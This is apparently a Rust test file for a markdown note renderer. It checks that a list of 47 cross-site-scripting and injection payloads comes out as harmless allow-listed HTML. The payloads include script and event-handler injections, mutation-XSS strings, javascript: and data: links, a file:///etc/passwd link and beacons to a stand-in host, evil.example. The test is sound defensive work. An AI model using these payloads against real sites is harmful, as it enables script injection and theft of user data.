//! Nothing that a note says is ever executed or fetched.

use std::cell::RefCell;

use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use sticky_domain::card::CardRenderer;
use sticky_preview::Renderer;

use crate::samples::note;

const TAGS: [&str; 26] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

const REL: &str = "noopener noreferrer nofollow ugc";

const ATTACKS: [&str; 47] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x`onerror=alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example';</style>",
    "<p style=background:url(https://evil.example)>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](https://a.example \"\" onmouseover=\"alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1)) ![y](https://evil.example/beacon.png)",
    "![\"onerror=alert(1)](x)",
    "> > > <script>\n> > alert(1)\n> </script>",
    "```html\"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
];

#[test]
fn nothing_executable_survives() {
    let renderer = Renderer::new();
    for attack in ATTACKS {
        for markdown in wrapped(attack) {
            let html = renderer.html(&note(&markdown));
            tags(&html).iter().for_each(|tag| assert_harmless(tag, &html));
        }
    }
}

#[test]
fn attacks_are_still_drawn_as_text() {
    let renderer = Renderer::new();
    for attack in ATTACKS {
        let card = note(attack);
        renderer.png(&card).unwrap();
        let svg = renderer.svg(&card).unwrap();
        assert!(!svg.contains("<script") && !svg.contains("evil.example"), "{attack}");
    }
}

#[test]
fn good_links_stay_and_are_marked() {
    let html = Renderer::new().html(&note("[a](https://a.example) <b@c.example> www.d.example"));
    for target in ["https://a.example", "mailto:b@c.example", "http://www.d.example"] {
        assert!(html.contains(&format!(r#"href="{target}" rel="{REL}""#)), "{html}");
    }
}

#[test]
fn pictures_are_links() {
    let html = Renderer::new().html(&note("![cat](https://a.example/c.png)"));
    assert!(
        html.contains(r#"<a href="https://a.example/c.png""#) && !html.contains("<img"),
        "{html}"
    );
}

/// The attack alone and in the places that are rendered differently.
fn wrapped(attack: &str) -> [String; 6] {
    [
        attack.to_owned(),
        format!("text {attack} text"),
        format!("- [ ] {attack}"),
        format!("> # {attack}"),
        format!("|{attack}|\n|-|\n|{attack}|"),
        format!("**{attack}** [{attack}](https://a.example)"),
    ]
}

fn assert_harmless(tag: &Tag, html: &str) {
    assert!(TAGS.contains(&&*tag.name), "<{}> in {html}", tag.name);
    for attribute in &tag.attrs {
        let (name, value) = (&*attribute.name.local, &*attribute.value);
        let is_fine = match (&*tag.name, name) {
            ("a", "href") => {
                ["http://", "https://", "mailto:"].iter().any(|s| value.starts_with(s))
            }
            ("a", "rel") => value == REL,
            ("input", "type") => value == "checkbox",
            ("input", "checked" | "disabled") => value.is_empty(),
            ("ol", "start") => value.parse::<u32>().is_ok(),
            ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
            ("ul" | "li", "class") => ["contains-task-list", "task-list-item"].contains(&value),
            _ => false,
        };
        assert!(is_fine, "{name}={value:?} in {html}");
    }
}

/// The tags as a browser's tokenizer sees them. No allowed element switches it to another state.
fn tags(html: &str) -> Vec<Tag> {
    let input = BufferQueue::default();
    input.push_back(html.into());
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => self.0.borrow_mut().push(tag),
            Token::TagToken(_) | Token::CharacterTokens(_) | Token::NullCharacterToken => {}
            Token::EOFToken => {}
            other => panic!("unexpected {other:?}"),
        }
        TokenSinkResult::Continue
    }
}
